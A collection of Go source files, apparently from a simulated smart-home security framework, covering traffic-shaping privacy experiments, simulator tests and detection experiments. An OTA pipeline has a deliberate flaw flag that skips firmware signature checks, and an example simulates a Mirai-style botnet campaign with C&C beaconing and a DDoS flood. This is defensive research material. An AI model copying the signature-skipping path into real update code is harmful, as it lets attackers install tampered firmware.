	mustAttach(&netsim.FuncNode{Address: "wan:cam-cloud"}, netsim.DefaultWAN())
	mustAttach(&netsim.FuncNode{Address: "lan:cam"}, netsim.DefaultLAN())
	n.AddTap(netsim.TapWAN, wanCap.Tap())

	// Identification signal: one cleartext DNS query at start.
	n.Send(&netsim.Packet{Src: "lan:gw", Dst: "wan:dns", SrcPort: 5353, DstPort: 53,
		Proto: "DNS", Size: 80, DNSName: "cam.vendor.example", App: "dns-query"})

	// Background keepalive + event bursts at known times.
	k.Every(2*time.Second, 500*time.Millisecond, "keepalive", func() {
		gw.SendOut(n, &netsim.Packet{Src: "lan:cam", SrcPort: 7001, Dst: "wan:cam-cloud",
			DstPort: 443, Proto: "TLS", Encrypted: true, Size: 400})
	})
	var truth []shaping.GroundTruthEvent
	for _, at := range []time.Duration{60 * time.Second, 150 * time.Second, 240 * time.Second, 330 * time.Second} {
		at := at
		truth = append(truth, shaping.GroundTruthEvent{Time: at, DeviceType: "camera"})
		k.Schedule(at, "motion", func() {
			for i := 0; i < 12; i++ {
				gw.SendOut(n, &netsim.Packet{Src: "lan:cam", SrcPort: 7001, Dst: "wan:cam-cloud",
					DstPort: 443, Proto: "TLS", Encrypted: true, Size: 1200, App: "event:motion"})
			}
		})
	}
	if err := k.Run(6 * time.Minute); err != nil {
		panic(err)
	}

	adv := shaping.NewAdversary(shaping.KnowledgeBase{
		DomainType: map[string]string{"cam.vendor.example": "camera"},
		DomainAddr: map[string]netsim.Addr{"cam.vendor.example": "wan:cam-cloud"},
		RateBand:   map[string][2]float64{"camera": {50, 2000}},
	})
	ids := adv.IdentifyDevices(wanCap.Records())
	identConf := 0.0
	for _, id := range ids {
		if id.DeviceType == "camera" && id.Confidence > identConf {
			identConf = id.Confidence
		}
	}
	events := adv.InferEvents(wanCap.Records())
	prec, recall := shaping.ScoreEvents(events, truth, 5*time.Second)
	return e2Row{
		mode:      cfg.Mode.String(),
		identConf: identConf,
		prec:      prec,
		recall:    recall,
		overhead:  sh.Stats().OverheadFraction(),
		meanDelay: sh.Stats().MeanDelay(),
	}
}
