package sim

import (
	"testing"
	"testing/quick"
	"time"
)

// Property: for any random schedule, events execute in nondecreasing
// timestamp order, every non-canceled event runs exactly once, and the
// clock never moves backwards.
func TestExecutionOrderProperty(t *testing.T) {
	f := func(delays []uint16, seed int64) bool {
		if len(delays) > 200 {
			delays = delays[:200]
		}
		k := NewKernel(seed)
		var times []time.Duration
		ran := 0
		for _, d := range delays {
			at := time.Duration(d) * time.Millisecond
			k.ScheduleAt(at, "e", func() {
				times = append(times, k.Now())
				ran++
			})
		}
		if err := k.Run(100 * time.Second); err != nil {
			return false
		}
		if ran != len(delays) {
			return false
		}
		for i := 1; i < len(times); i++ {
			if times[i] < times[i-1] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

// Property: canceled events never run, regardless of cancellation pattern.
func TestCancellationProperty(t *testing.T) {
	f := func(delays []uint8, cancelMask []bool) bool {
		k := NewKernel(1)
		n := len(delays)
		if n > 100 {
			n = 100
		}
		ran := make([]bool, n)
		events := make([]Handle, n)
		for i := 0; i < n; i++ {
			i := i
			events[i] = k.Schedule(time.Duration(delays[i])*time.Millisecond, "e", func() {
				ran[i] = true
			})
		}
		for i := 0; i < n && i < len(cancelMask); i++ {
			if cancelMask[i] {
				events[i].Cancel()
			}
		}
		if err := k.Run(time.Minute); err != nil {
			return false
		}
		for i := 0; i < n; i++ {
			canceled := i < len(cancelMask) && cancelMask[i]
			if canceled == ran[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}
