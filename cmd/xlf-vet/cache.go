package main

// The per-package result cache. Findings are a pure function of the
// module source and the rule set, but NOT of the package's own files
// alone: taint summaries and the layer table make every rule's output
// potentially dependent on any file in the module. The cache key is
// therefore a module-wide context hash combined with the package path —
// an entry hits only when nothing in the module changed, which is
// exactly the CI re-run case the cache exists for, and it can never
// serve stale cross-package results.

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"

	"xlf/internal/analysis"
)

// cacheSchema invalidates all entries when the on-disk shape or the
// analyzer implementations change in ways the source hash cannot see.
const cacheSchema = "xlf-vet-cache-v4"

// vetCache is a directory of per-package finding lists keyed by the
// module context hash.
type vetCache struct {
	dir string
	ctx string
}

// openCache computes the module context hash and ensures the cache
// directory exists. A nil cache (disabled) is returned for dir == "".
func openCache(dir, root string, allPkgs []*analysis.Package, analyzers []analysis.Analyzer) (*vetCache, error) {
	if dir == "" {
		return nil, nil
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	ctx, err := moduleContextHash(root, allPkgs, analyzers)
	if err != nil {
		return nil, err
	}
	return &vetCache{dir: dir, ctx: ctx}, nil
}

// moduleContextHash digests go.mod, every loaded source file (path and
// content) and the active rule names.
func moduleContextHash(root string, pkgs []*analysis.Package, analyzers []analysis.Analyzer) (string, error) {
	h := sha256.New()
	io.WriteString(h, cacheSchema+"\x00")
	for _, a := range analyzers {
		io.WriteString(h, a.Name()+"\x00")
	}
	files := []string{filepath.Join(root, "go.mod")}
	for _, p := range pkgs {
		for _, f := range p.Files {
			files = append(files, f.Name)
		}
	}
	sort.Strings(files)
	for _, name := range files {
		data, err := os.ReadFile(name)
		if err != nil {
			return "", err
		}
		rel := name
		if r, rerr := filepath.Rel(root, name); rerr == nil {
			rel = filepath.ToSlash(r)
		}
		fmt.Fprintf(h, "%s\x00%d\x00", rel, len(data))
		h.Write(data)
	}
	return hex.EncodeToString(h.Sum(nil)), nil
}

func (c *vetCache) path(pkgPath string) string {
	sum := sha256.Sum256([]byte(c.ctx + "\x00" + pkgPath))
	return filepath.Join(c.dir, hex.EncodeToString(sum[:])+".json")
}

// get returns the cached findings for pkgPath, and whether the entry
// exists. An unreadable or corrupt entry is a miss.
func (c *vetCache) get(pkgPath string) ([]analysis.Finding, bool) {
	data, err := os.ReadFile(c.path(pkgPath))
	if err != nil {
		return nil, false
	}
	var findings []analysis.Finding
	if err := json.Unmarshal(data, &findings); err != nil {
		return nil, false
	}
	return findings, true
}

// put stores findings (already module-relative) for pkgPath. Cache
// write failures are deliberately silent: the run's results are
// correct either way.
func (c *vetCache) put(pkgPath string, findings []analysis.Finding) {
	if findings == nil {
		findings = []analysis.Finding{}
	}
	data, err := json.Marshal(findings)
	if err != nil {
		return
	}
	tmp := c.path(pkgPath) + ".tmp"
	if err := os.WriteFile(tmp, data, 0o644); err != nil {
		return
	}
	_ = os.Rename(tmp, c.path(pkgPath))
}
