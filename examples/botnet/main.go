// Botnet: the full Mirai-style campaign — recruitment, C&C beaconing,
// DDoS — run twice: once against an unprotected home and once under XLF,
// with the timeline of detection and containment.
package main

import (
	"fmt"
	"log"
	"time"

	"xlf"
	"xlf/internal/attack"
	"xlf/internal/netsim"
	"xlf/internal/service"
)

func main() {
	fmt.Println("=== Run 1: unprotected home ===")
	runCampaign(false)
	fmt.Println()
	fmt.Println("=== Run 2: the same home under XLF ===")
	runCampaign(true)
}

func runCampaign(protected bool) {
	sys, err := xlf.New(xlf.Options{
		Seed:              7,
		Flaws:             service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true},
		DisableProtection: !protected,
	})
	if err != nil {
		log.Fatal(err)
	}
	k := sys.Home.Kernel
	if protected {
		sys.Core.OnAlert = func(a xlf.CoreAlert) {
			fmt.Printf("  [%8s] XLF %s\n", k.Now().Truncate(time.Millisecond), a)
		}
	}

	env := sys.Home.AttackEnv()
	m := &attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 10 * time.Second}
	k.Schedule(10*time.Second, "recruit", func() {
		res := m.Execute(env)
		fmt.Printf("  [%8s] attacker: %s\n", k.Now().Truncate(time.Millisecond), res)
	})
	k.Schedule(90*time.Second, "ddos", func() {
		res := (&attack.DDoSFlood{Victim: "wan:victim", Rate: 100, Duration: 30 * time.Second}).Execute(env)
		fmt.Printf("  [%8s] attacker: %s\n", k.Now().Truncate(time.Millisecond), res)
	})

	if err := sys.Home.Run(3 * time.Minute); err != nil {
		log.Fatal(err)
	}

	beacons, flood := 0, 0
	for _, r := range sys.Home.WANCap.Records() {
		switch r.Dst {
		case netsim.Addr("wan:cnc"):
			beacons++
		case netsim.Addr("wan:victim"):
			flood++
		}
	}
	fmt.Printf("  outcome: %d C&C beacons escaped, %d flood packets hit the victim\n", beacons, flood)
	if protected {
		fmt.Printf("  NAC denials: %d (C&C endpoint was never enrolled — denied by default)\n", sys.NAC.Denials())
	}
}
