// Trafficprivacy: sweep gateway traffic-shaping intensity and watch the
// Apthorpe-style passive adversary lose the ability to identify devices
// and infer user activity — and what that privacy costs in bandwidth.
package main

import (
	"fmt"
	"time"

	"xlf/internal/netsim"
	"xlf/internal/shaping"
	"xlf/internal/sim"
)

func main() {
	fmt.Println("An ISP-side observer watches one home's encrypted WAN traffic.")
	fmt.Println("Ground truth: a camera streams keepalives and bursts on motion")
	fmt.Println("events at t=60s and t=150s. Can the observer see your movements?")
	fmt.Println()
	fmt.Printf("%-10s %-20s %-12s %-12s %-10s\n", "intensity", "mode", "identified", "events-seen", "overhead")

	for _, intensity := range []float64{0, 0.3, 0.6, 0.8, 1.0} {
		identified, recall, overhead, mode := runOnce(intensity)
		fmt.Printf("%-10.2f %-20s %-12v %-12s %-10s\n",
			intensity, mode, identified,
			fmt.Sprintf("%.0f%%", recall*100),
			fmt.Sprintf("%.0f%%", overhead*100))
	}
	fmt.Println()
	fmt.Println("Rate equalisation (high intensity) hides events completely: the")
	fmt.Println("shaper emits fixed-size cells at a fixed cadence, queueing real")
	fmt.Println("packets and filling idle slots with dummies. Privacy costs the")
	fmt.Println("overhead column — exactly the trade-off the paper's §IV-B1 describes.")
}

func runOnce(intensity float64) (bool, float64, float64, string) {
	k := sim.NewKernel(42)
	n := netsim.New(k)
	gw := netsim.NewGateway("lan:gw", "wan:home")
	cfg := shaping.Level(intensity)
	sh := shaping.New(k, cfg)
	if cfg.Mode != shaping.ModeOff {
		gw.Shaper = sh.GatewayHook()
	}
	wanCap := netsim.NewCapture()

	must := func(err error) {
		if err != nil {
			panic(err)
		}
	}
	must(n.Attach(gw, netsim.DefaultLAN()))
	must(n.Attach(gw.WANNode(), netsim.DefaultWAN()))
	must(n.Attach(&netsim.FuncNode{Address: "wan:cam-cloud"}, netsim.DefaultWAN()))
	must(n.Attach(&netsim.FuncNode{Address: "lan:cam"}, netsim.DefaultLAN()))
	n.AddTap(netsim.TapWAN, wanCap.Tap())

	// The camera's DNS query is the identification breadcrumb.
	n.Send(&netsim.Packet{Src: "lan:gw", Dst: "wan:dns", SrcPort: 5353, DstPort: 53,
		Proto: "DNS", Size: 80, DNSName: "cam.vendor.example", App: "dns-query"})

	k.Every(2*time.Second, 500*time.Millisecond, "keepalive", func() {
		gw.SendOut(n, &netsim.Packet{Src: "lan:cam", SrcPort: 7001, Dst: "wan:cam-cloud",
			DstPort: 443, Proto: "TLS", Encrypted: true, Size: 400})
	})
	var truth []shaping.GroundTruthEvent
	for _, at := range []time.Duration{60 * time.Second, 150 * time.Second} {
		at := at
		truth = append(truth, shaping.GroundTruthEvent{Time: at, DeviceType: "camera"})
		k.Schedule(at, "motion", func() {
			for i := 0; i < 12; i++ {
				gw.SendOut(n, &netsim.Packet{Src: "lan:cam", SrcPort: 7001, Dst: "wan:cam-cloud",
					DstPort: 443, Proto: "TLS", Encrypted: true, Size: 1200, App: "event:motion"})
			}
		})
	}
	if err := k.Run(4 * time.Minute); err != nil {
		panic(err)
	}

	adv := shaping.NewAdversary(shaping.KnowledgeBase{
		DomainType: map[string]string{"cam.vendor.example": "camera"},
		DomainAddr: map[string]netsim.Addr{"cam.vendor.example": "wan:cam-cloud"},
		RateBand:   map[string][2]float64{"camera": {50, 2000}},
	})
	identified := false
	for _, id := range adv.IdentifyDevices(wanCap.Records()) {
		if id.DeviceType == "camera" && id.Confidence >= 0.7 {
			identified = true
		}
	}
	_, recall := shaping.ScoreEvents(adv.InferEvents(wanCap.Records()), truth, 5*time.Second)
	return identified, recall, sh.Stats().OverheadFraction(), cfg.Mode.String()
}
