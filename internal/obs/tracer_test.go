package obs

import (
	"sync"
	"testing"
	"time"
)

func TestTracerRecordsInOrder(t *testing.T) {
	tr := NewTracer(8, nil)
	tr.EmitAt(10, LayerDevice, "keepalive", "cam-1", "sealed")
	tr.EmitAt(20, LayerNetsim, "deliver", "cam-1", "")
	tr.EmitSpan(Span{Time: 30, Dur: 5, Layer: LayerCore, Op: "ingest", Device: "cam-1", Cause: "dpi:mirai-loader", Detail: "dpi"})
	spans := tr.Spans()
	if len(spans) != 3 || tr.Len() != 3 {
		t.Fatalf("spans = %d, want 3", len(spans))
	}
	for i, s := range spans {
		if s.Seq != uint64(i+1) {
			t.Errorf("span %d seq = %d", i, s.Seq)
		}
	}
	if spans[2].Dur != 5 || spans[2].Detail != "dpi" {
		t.Errorf("EmitSpan lost fields: %+v", spans[2])
	}
	if tr.Evicted() != 0 {
		t.Errorf("evicted = %d, want 0", tr.Evicted())
	}
}

// TestTracerEvictionOrder fills the ring past capacity and checks the
// survivors are exactly the newest spans, oldest first.
func TestTracerEvictionOrder(t *testing.T) {
	const capacity, emitted = 4, 11
	tr := NewTracer(capacity, nil)
	for i := 0; i < emitted; i++ {
		tr.EmitAt(time.Duration(i), LayerSim, "event", "", "")
	}
	if tr.Len() != capacity {
		t.Fatalf("len = %d, want %d", tr.Len(), capacity)
	}
	if got, want := tr.Evicted(), uint64(emitted-capacity); got != want {
		t.Fatalf("evicted = %d, want %d", got, want)
	}
	spans := tr.Spans()
	for i, s := range spans {
		wantSeq := uint64(emitted - capacity + i + 1)
		if s.Seq != wantSeq || s.Time != time.Duration(wantSeq-1) {
			t.Errorf("survivor %d = seq %d t %d, want seq %d", i, s.Seq, s.Time, wantSeq)
		}
	}
}

func TestTracerClock(t *testing.T) {
	now := time.Duration(0)
	tr := NewTracer(4, func() time.Duration { return now })
	now = 42
	tr.Emit(LayerXAuth, "token-issue", "cam-1", "")
	tr.SetClock(func() time.Duration { return 99 })
	tr.Emit(LayerXAuth, "token-verify", "cam-1", "")
	spans := tr.Spans()
	if spans[0].Time != 42 || spans[1].Time != 99 {
		t.Errorf("clock timestamps = %d, %d; want 42, 99", spans[0].Time, spans[1].Time)
	}
}

// TestNilTracer pins the disabled fast path: every method on a nil
// *Tracer must be a safe no-op. Hot paths rely on this instead of a
// boolean flag.
func TestNilTracer(t *testing.T) {
	var tr *Tracer
	tr.Emit(LayerCore, "ingest", "", "")
	tr.EmitAt(1, LayerCore, "ingest", "", "")
	tr.EmitSpan(Span{})
	tr.SetClock(func() time.Duration { return 0 })
	if tr.Enabled() {
		t.Error("nil tracer reports enabled")
	}
	if tr.Spans() != nil || tr.Len() != 0 || tr.Evicted() != 0 || tr.Cap() != 0 {
		t.Error("nil tracer leaked state")
	}
}

func TestTracerDefaultCapacity(t *testing.T) {
	if got := NewTracer(0, nil).Cap(); got != DefaultCapacity {
		t.Errorf("default cap = %d, want %d", got, DefaultCapacity)
	}
}

// TestTracerConcurrentEmit hammers a small ring from many goroutines
// while a reader snapshots; the race detector is the real assertion, but
// the accounting must also balance.
func TestTracerConcurrentEmit(t *testing.T) {
	const workers, perWorker = 8, 500
	tr := NewTracer(64, nil)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				tr.EmitAt(time.Duration(i), LayerNetsim, "send", "cam-1", "")
			}
		}()
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 100; i++ {
			tr.Spans()
			tr.Len()
		}
	}()
	wg.Wait()
	<-done
	if got, want := uint64(tr.Len())+tr.Evicted(), uint64(workers*perWorker); got != want {
		t.Errorf("held+evicted = %d, want %d", got, want)
	}
}

// BenchmarkEmitDisabled measures the nil-tracer fast path the hot loops
// pay when tracing is off: it must stay at roughly a branch.
func BenchmarkEmitDisabled(b *testing.B) {
	var tr *Tracer
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		tr.EmitAt(time.Duration(i), LayerCore, "ingest", "cam-1", "kind")
	}
}

func BenchmarkEmitEnabled(b *testing.B) {
	tr := NewTracer(1<<12, nil)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		tr.EmitAt(time.Duration(i), LayerCore, "ingest", "cam-1", "kind")
	}
}
