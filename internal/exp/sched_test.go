package exp

import (
	"fmt"
	"sync/atomic"
	"testing"
	"time"
)

// syntheticRegistry builds n cheap fake experiments whose results depend
// on the env (seed + clock), so pool interleaving bugs surface as wrong or
// racy output without paying for real simulations.
func syntheticRegistry(n int) []Experiment {
	exps := make([]Experiment, n)
	for i := range exps {
		i := i
		exps[i] = Experiment{
			ID:    fmt.Sprintf("S%d", i),
			Title: fmt.Sprintf("synthetic %d", i),
			Run: func(env *Env) *Result {
				r := &Result{ID: fmt.Sprintf("S%d", i), Title: fmt.Sprintf("synthetic %d", i)}
				rng := env.Rand()
				el := env.timeSection(func() {})
				r.Output = fmt.Sprintf("draw=%d elapsed=%s\n", rng.Intn(1_000_000), el)
				r.num("draw", float64(rng.Intn(1_000_000)))
				return r
			},
		}
	}
	return exps
}

// TestSchedulerOrderAndIsolation runs a synthetic registry at several pool
// sizes and requires bit-identical, input-ordered results every time —
// the worker pool's core contract. Under -race this is also the pool's
// data-race probe.
func TestSchedulerOrderAndIsolation(t *testing.T) {
	exps := syntheticRegistry(64)
	baselineEnv := NewStepEnv(9)
	baseline := (&Scheduler{Parallel: 1}).Run(baselineEnv, exps)
	for i, r := range baseline {
		if want := fmt.Sprintf("S%d", i); r.ID != want {
			t.Fatalf("sequential result %d is %s, want %s", i, r.ID, want)
		}
	}
	for _, parallel := range []int{2, 4, 16, 128} {
		parallel := parallel
		t.Run(fmt.Sprintf("parallel%d", parallel), func(t *testing.T) {
			env := NewStepEnv(9)
			env.Workers = parallel
			got := (&Scheduler{Parallel: parallel}).Run(env, exps)
			if len(got) != len(baseline) {
				t.Fatalf("got %d results, want %d", len(got), len(baseline))
			}
			for i := range got {
				if got[i].String() != baseline[i].String() {
					t.Errorf("result %d differs at parallel %d:\n%s\nvs\n%s",
						i, parallel, got[i].String(), baseline[i].String())
				}
			}
		})
	}
}

// TestSchedulerOverlapsWork proves the pool actually runs experiments
// concurrently: with sleeping jobs, the peak number of in-flight runs must
// exceed one. (Wall-clock speedup is asserted in CI on a multi-core
// runner; in-flight depth is the core-count-independent signal.)
func TestSchedulerOverlapsWork(t *testing.T) {
	var inflight, peak atomic.Int64
	exps := make([]Experiment, 8)
	for i := range exps {
		i := i
		exps[i] = Experiment{
			ID: fmt.Sprintf("S%d", i),
			Run: func(env *Env) *Result {
				cur := inflight.Add(1)
				for {
					p := peak.Load()
					if cur <= p || peak.CompareAndSwap(p, cur) {
						break
					}
				}
				time.Sleep(20 * time.Millisecond)
				inflight.Add(-1)
				return &Result{ID: fmt.Sprintf("S%d", i)}
			},
		}
	}
	(&Scheduler{Parallel: 4}).Run(NewStepEnv(1), exps)
	if p := peak.Load(); p < 2 {
		t.Errorf("peak in-flight experiments = %d, want >= 2 (pool did not overlap work)", p)
	}
}

// TestSchedulerSequentialFallbacks pins the clamps: parallel < 1 and envs
// without a clock factory must both degrade to a safe sequential run with
// exact allocation telemetry.
func TestSchedulerSequentialFallbacks(t *testing.T) {
	exps := syntheticRegistry(4)
	for name, env := range map[string]*Env{
		"parallel0":      NewStepEnv(2),
		"no-factory-env": {Seed: 2, Clock: StepClock(time.Millisecond)},
	} {
		s := &Scheduler{Parallel: 0}
		if name == "no-factory-env" {
			s.Parallel = 8 // must still clamp to 1: forks would share the clock
		}
		results := s.Run(env, exps)
		for i, r := range results {
			if r == nil || r.ID != fmt.Sprintf("S%d", i) {
				t.Fatalf("%s: bad result at %d: %+v", name, i, r)
			}
			if r.Telemetry == nil {
				t.Fatalf("%s: result %d missing telemetry", name, i)
			}
			if r.Telemetry.AllocBytes < 0 || r.Telemetry.Allocs < 0 {
				t.Errorf("%s: sequential run should record exact allocs, got %+v", name, r.Telemetry)
			}
			if r.Telemetry.WallNS < 0 {
				t.Errorf("%s: negative wall time %d", name, r.Telemetry.WallNS)
			}
		}
	}
}

// TestSchedulerParallelTelemetry pins the attribution rule: concurrent
// runs cannot attribute MemStats deltas, so they record -1 instead of a
// misleading number.
func TestSchedulerParallelTelemetry(t *testing.T) {
	env := NewStepEnv(2)
	results := (&Scheduler{Parallel: 4}).Run(env, syntheticRegistry(8))
	for i, r := range results {
		if r.Telemetry == nil {
			t.Fatalf("result %d missing telemetry", i)
		}
		if r.Telemetry.AllocBytes != -1 || r.Telemetry.Allocs != -1 {
			t.Errorf("parallel run claims exact allocs: %+v", r.Telemetry)
		}
	}
}

// TestSweep pins the inner-sweep helper: index order, fork isolation, and
// identical results at every worker count.
func TestSweep(t *testing.T) {
	point := func(i int, env *Env) string {
		return fmt.Sprintf("%d:%d:%s", i, env.Rand().Intn(1000), env.Clock())
	}
	seq := func() []string {
		env := NewStepEnv(5)
		return Sweep(env, 20, point)
	}()
	for i, s := range seq {
		if want := fmt.Sprintf("%d:", i); s[:len(want)] != want {
			t.Fatalf("sweep point %d out of order: %q", i, s)
		}
	}
	for _, workers := range []int{0, 1, 3, 16, 64} {
		env := NewStepEnv(5)
		env.Workers = workers
		got := Sweep(env, 20, point)
		for i := range got {
			if got[i] != seq[i] {
				t.Errorf("workers=%d point %d = %q, want %q", workers, i, got[i], seq[i])
			}
		}
	}
	if got := Sweep(NewStepEnv(1), 0, point); len(got) != 0 {
		t.Errorf("empty sweep returned %v", got)
	}
}
