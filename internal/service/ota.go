package service

import (
	"crypto/ed25519"
	"fmt"

	"xlf/internal/lwc"
)

// OTA update pipeline (§III-C): the cloud distributes firmware images to
// devices. A robust pipeline signs images and devices verify before
// flashing; the OpenRedirectOTA flaw skips signing, which the Table II
// "firmware modulation" attack exploits.

// OTAImage is a distributable firmware image.
type OTAImage struct {
	Version string
	Data    []byte
	// Fingerprint is the lightweight hash devices check after flashing.
	Fingerprint uint64
	// Signature is the vendor's ed25519 signature over the data (empty =
	// unsigned).
	Signature []byte
}

// OTAPipeline signs and dispatches updates.
type OTAPipeline struct {
	cloud *Cloud
	pub   ed25519.PublicKey
	priv  ed25519.PrivateKey
	// Flash delivers a verified image to the physical device; installed
	// by the testbed.
	Flash func(deviceID string, img OTAImage) error

	pushed, rejected uint64
}

// NewOTAPipeline creates the pipeline with a fresh vendor keypair derived
// deterministically from seed.
func NewOTAPipeline(cloud *Cloud, seed []byte) (*OTAPipeline, error) {
	if len(seed) != ed25519.SeedSize {
		return nil, fmt.Errorf("service: OTA seed must be %d bytes, got %d", ed25519.SeedSize, len(seed))
	}
	priv := ed25519.NewKeyFromSeed(seed)
	return &OTAPipeline{cloud: cloud, priv: priv, pub: priv.Public().(ed25519.PublicKey)}, nil
}

// VendorPublicKey returns the verification key devices pin.
func (o *OTAPipeline) VendorPublicKey() ed25519.PublicKey { return o.pub }

// Stats returns (imagesPushed, imagesRejected).
func (o *OTAPipeline) Stats() (uint64, uint64) { return o.pushed, o.rejected }

// Build signs an image.
func (o *OTAPipeline) Build(version string, data []byte) OTAImage {
	img := OTAImage{
		Version:     version,
		Data:        append([]byte(nil), data...),
		Fingerprint: lwc.Sum64(data),
	}
	img.Signature = ed25519.Sign(o.priv, img.Data)
	return img
}

// VerifyImage checks signature and fingerprint; this is the device-side
// check.
func VerifyImage(pub ed25519.PublicKey, img OTAImage) error {
	if img.Fingerprint != lwc.Sum64(img.Data) {
		return fmt.Errorf("service: OTA fingerprint mismatch for %s", img.Version)
	}
	if len(img.Signature) == 0 {
		return ErrUnsignedImage
	}
	if !ed25519.Verify(pub, img.Data, img.Signature) {
		return fmt.Errorf("service: OTA signature invalid for %s", img.Version)
	}
	return nil
}

// Push distributes an image to a device. On a hardened platform unsigned
// or tampered images are rejected before dispatch; with the
// OpenRedirectOTA flaw they are pushed anyway and only device-side checks
// (if any) stand in the way.
func (o *OTAPipeline) Push(deviceID string, img OTAImage) error {
	if _, ok := o.cloud.devices[deviceID]; !ok {
		return ErrUnknownDevice
	}
	if !o.cloud.Flaws.OpenRedirectOTA {
		if err := VerifyImage(o.pub, img); err != nil {
			o.rejected++
			return err
		}
	}
	o.pushed++
	if o.Flash != nil {
		return o.Flash(deviceID, img)
	}
	return nil
}
