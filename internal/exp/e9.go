package exp

import (
	"fmt"
	"sort"
	"time"

	"xlf"
	"xlf/internal/attack"
	"xlf/internal/device"
	"xlf/internal/metrics"
	"xlf/internal/testbed"
)

// runE9 runs a multi-day simulated household under the full XLF
// stack: a realistic diurnal benign workload, with one attack campaign
// injected midway. It reports the operational numbers a deployment would
// be judged by — false alerts per benign device-day, detection and
// containment latency for the campaign, and alert volume.
//
// It is the E9 registry entry. The energy variant is an independent
// simulation of the same seed, so it runs as a concurrent sweep point
// alongside the main detection horizon.
func runE9(env *Env) *Result {
	seed := env.Seed
	r := &Result{ID: "E9", Title: "Long-horizon stability: 3-day household, one campaign"}

	const days = 3
	// The lightweight-encryption energy variant is a second, independent
	// 3-day simulation; overlap it with the main horizon when the env has
	// workers to spare.
	var energyCh chan string
	if env.Workers > 1 {
		energyCh = make(chan string, 1)
		go func() { energyCh <- runE9Energy(seed, days) }()
	}

	sys, err := xlf.New(xlf.Options{Seed: seed, Flaws: vulnerableFlaws(), Tracer: env.Tracer()})
	if err != nil {
		panic(err)
	}
	events := sys.Home.GenerateWorkload(testbed.WorkloadConfig{Days: days, Intensity: 1})
	sys.Home.ScheduleWorkload(events)

	// Campaign midway through day 2.
	campaignAt := 36 * time.Hour
	m := &attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 20 * time.Second}
	sys.Home.Kernel.Schedule(campaignAt, "campaign", func() {
		m.Execute(sys.Home.AttackEnv())
	})

	if err := sys.Home.Run(days * 24 * time.Hour); err != nil {
		panic(err)
	}

	alerts := sys.Core.Alerts()
	victims := map[string]bool{}
	for _, id := range m.Recruited() {
		victims[id] = true
	}
	falseAlerts := 0
	var detectAt, containAt time.Duration = -1, -1
	for _, a := range alerts {
		if victims[a.DeviceID] {
			if detectAt < 0 {
				detectAt = a.Time
			}
			if a.Action != "" && containAt < 0 {
				containAt = a.Time
			}
			continue
		}
		falseAlerts++
	}

	benignDevices := len(sys.Home.Devices) - len(victims)
	fpPerDeviceDay := float64(falseAlerts) / float64(benignDevices*days)

	t := metrics.NewTable("", "Metric", "Value")
	t.AddRow("benign interactions scheduled", fmt.Sprint(len(events)))
	t.AddRow("simulated horizon", fmt.Sprintf("%d days", days))
	t.AddRow("devices recruited by campaign", fmt.Sprint(len(m.Recruited())))
	t.AddRow("total alerts", fmt.Sprint(len(alerts)))
	t.AddRow("false alerts (benign devices)", fmt.Sprint(falseAlerts))
	t.AddRow("false alerts / benign device-day", fmt.Sprintf("%.4f", fpPerDeviceDay))
	if detectAt >= 0 {
		t.AddRow("campaign detection latency", (detectAt - campaignAt).Truncate(time.Millisecond).String())
	} else {
		t.AddRow("campaign detection latency", "NOT DETECTED")
	}
	if containAt >= 0 {
		t.AddRow("campaign containment latency", (containAt - campaignAt).Truncate(time.Millisecond).String())
	} else {
		t.AddRow("campaign containment latency", "-")
	}
	delivered, dropped, bytes := sys.Home.Net.Stats()
	t.AddRow("packets delivered / dropped", fmt.Sprintf("%d / %d", delivered, dropped))
	t.AddRow("bytes on the wire", fmt.Sprint(bytes))

	// Variant: the same horizon with lightweight encryption on, measuring
	// the in-vivo battery cost of the §IV-A2 function on battery devices.
	var et string
	if energyCh != nil {
		et = <-energyCh
	} else {
		et = runE9Energy(seed, days)
	}

	r.Output = t.String() + "\nLightweight-encryption energy cost over the same horizon:\n" + et
	r.num("false_per_device_day", fpPerDeviceDay)
	r.num("detected", boolTo01(detectAt >= 0))
	r.num("contained", boolTo01(containAt >= 0))
	if detectAt >= 0 {
		r.num("detect_latency_s", (detectAt - campaignAt).Seconds())
	}
	return r
}

// runE9Energy reruns the benign horizon with per-device sessions enabled
// and reports battery draw attributable to sealing.
func runE9Energy(seed int64, days int) string {
	sys, err := xlf.New(xlf.Options{Seed: seed, Flaws: vulnerableFlaws(), LightweightEncryption: true})
	if err != nil {
		panic(err)
	}
	sys.Home.ScheduleWorkload(sys.Home.GenerateWorkload(testbed.WorkloadConfig{Days: days, Intensity: 1}))
	if err := sys.Home.Run(time.Duration(days) * 24 * time.Hour); err != nil {
		panic(err)
	}
	const fullUJ = 2.0 * 3600 * 3 * 1e6
	t := metrics.NewTable("", "Battery device", "Session cipher", "Battery consumed")
	ids := make([]string, 0, len(sys.Home.Sessions))
	for id := range sys.Home.Sessions {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	for _, id := range ids {
		d := sys.Home.Devices[id]
		if d.Profile.Power != device.PowerBattery {
			continue
		}
		used := (fullUJ - d.BatteryUJ) / fullUJ
		t.AddRow(id, sys.Home.Sessions[id].Algorithm, fmt.Sprintf("%.5f%%", used*100))
	}
	return t.String()
}
