package exp

import (
	"fmt"
	"math/rand"

	"xlf/internal/metrics"
	"xlf/internal/ml"
)

// runE6 evaluates the XLF Core's two learning modules (§IV-D):
// multi-kernel learning fusing per-layer features (each single kernel vs
// uniform vs alignment-learned weights), and graph-based community
// detection over device-behaviour similarity with outlier identification.
//
// It is the E6 registry entry. Train/test/graph data draw from one
// continuous RNG stream, so the experiment stays sequential internally.
func runE6(env *Env) *Result {
	r := &Result{ID: "E6", Title: "Core learning: MKL fusion and graph community detection"}
